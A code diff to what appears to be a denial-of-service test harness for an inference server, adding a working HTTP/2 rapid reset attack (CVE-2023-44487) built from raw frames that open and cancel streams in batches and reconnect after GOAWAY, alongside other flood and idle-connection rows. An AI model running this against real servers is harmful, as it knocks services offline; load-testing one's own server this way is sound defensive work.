@@ -31,7 +31,9 @@ host is shared) and the row reports it. Lost: a call that ended UNKNOWN, INTERNA
 Rows (``--rows`` picks some): ``watch`` 64 health Watch streams (no token); ``partial_body`` 64 unary
 calls whose body never finishes (raw HTTP/2: HEADERS and part of a DATA frame, no token); ``idle_stream``
 64 idle InferStream calls (token); ``stalled_upload`` 64 uploads that stop after one chunk (token);
-``idle_conns`` 1100 idle HTTP/2 connections (preface + SETTINGS, then nothing); ``resnet_cuts`` 4 clients
+``idle_conns`` 1100 idle HTTP/2 connections (preface + SETTINGS, then nothing); ``rapid_reset`` HTTP/2
+rapid reset (CVE-2023-44487: 4 connections open Infer streams and reset each at once, batches of 100, no
+token; a connection the server ends is opened again); ``resnet_cuts`` 4 clients
 naming every resnet50 cut in turn (no tensors: the tail is built, then the request refused);
 ``free_dim`` bert_tiny bound to sequence 6000; ``probes`` 8 x 64 MiB Probes in flight; ``nodl_unary``
 8 plain gRPC clients without a deadline; ``nodl_stream`` the documented ``Device.stream()`` (no deadline)
@@ -944,6 +946,73 @@ class RawH2(Attack):
             self.pool = None
 
 
+class RapidReset(Attack):
+    """HTTP/2 rapid reset (CVE-2023-44487): each connection opens Infer streams (HEADERS, no token) and
+    resets each at once (RST_STREAM CANCEL), in batches of 100, as fast as it can; a connection the server
+    closes (GOAWAY) is opened again."""
+
+    def __init__(self, conns: int = 4, batch: int = 100) -> None:
+        super().__init__()
+        self.name = "rapid_reset"
+        self.what = f"HTTP/2 rapid reset: {conns} connections opening and resetting streams"
+        self.conns, self.batch = conns, batch
+        self.sent = 0
+        self.ended: Counter[str] = Counter()  # how the attack's connections ended
+        self.lock = threading.Lock()
+
+    def arm(self, ctx: Ctx) -> None:
+        host, port = ctx.server_address.rsplit(":", 1)
+        headers = grpc_headers(f"{SERVICE}/Infer", ctx.server_address)
+
+        def one_connection() -> str:
+            s = socket.socket()
+            stream, buf = 1, b""
+            try:
+                s.settimeout(2.0)
+                s.bind((ATTACKER_IP, 0))
+                s.connect((host, int(port)))
+                s.sendall(PREFACE + h2_frame(4, 0, 0))
+                s.setblocking(False)
+                while not self.stop_ev.is_set() and stream < 2**31 - 2 * self.batch:
+                    out = []
+                    for _ in range(self.batch):
+                        out.append(h2_frame(1, 0x4, stream, headers))  # HEADERS, END_HEADERS
+                        out.append(h2_frame(3, 0, stream, struct.pack(">I", 8)))  # RST_STREAM CANCEL
+                        stream += 2
+                    s.setblocking(True)
+                    s.sendall(b"".join(out))
+                    s.setblocking(False)
+                    with self.lock:
+                        self.sent += self.batch
+                    with contextlib.suppress(BlockingIOError):  # what the server says; GOAWAY ends it
+                        data = s.recv(1 << 16)
+                        if not data:
+                            return "closed"
+                        buf = buf[-(1 << 16) :] + data
+                        while len(buf) >= 9 and len(buf) >= 9 + int.from_bytes(buf[:3], "big"):
+                            if buf[3] == 7:
+                                return "goaway"
+                            buf = buf[9 + int.from_bytes(buf[:3], "big") :]
+            except OSError:
+                time.sleep(0.05)  # refused or cut: not in a tight loop
+                return "error"
+            finally:
+                s.close()
+            return "stopped"
+
+        def keep() -> None:
+            while not self.stop_ev.is_set():
+                how = one_connection()
+                with self.lock:
+                    self.ended[how] += 1
+
+        self.spawn(keep, self.conns)
+
+    def disarm(self) -> None:
+        self.notes.setdefault("streams_reset", self.sent)
+        self.notes.setdefault("connections_ended", dict(self.ended))
+
+
 class Flood(Attack):
     """``threads`` clients, each sending ``make(i)`` in a loop until stopped (every call time-limited)."""
 
@@ -1316,12 +1385,12 @@ class UploadBurst(Attack):
         return sum(self.codes.values()) >= self.n
 
     def build(self) -> None:
-        if not getattr(self, "models", None):
-            self.models = {i: distinct_model(i, self.mb) for i in (*range(self.n), 1000, 1001)}
+        if not getattr(self, "blobs", None):
+            self.blobs = {i: distinct_model(i, self.mb) for i in (*range(self.n), 1000, 1001)}
 
     def _upload(self, ctx: Ctx, i: int) -> None:
         self.build()
-        data = self.models.get(i) or distinct_model(i, self.mb)
+        data = self.blobs.get(i) or distinct_model(i, self.mb)
         code = upload(ctx.address, data, f"m{i}.onnx", timeout_s=30)
         with self.lock_codes():
             self.codes[code] += 1
@@ -1352,6 +1421,7 @@ def attacks() -> list[Attack]:
         HeldCalls("idle_stream", "InferStream", 64),
         HeldCalls("stalled_upload", "PutModel", 64),
         RawH2("idle_conns", 1100, partial_body=False),
+        RapidReset(),
         ResnetCuts(),
         FreeDim(),
         Probes(),
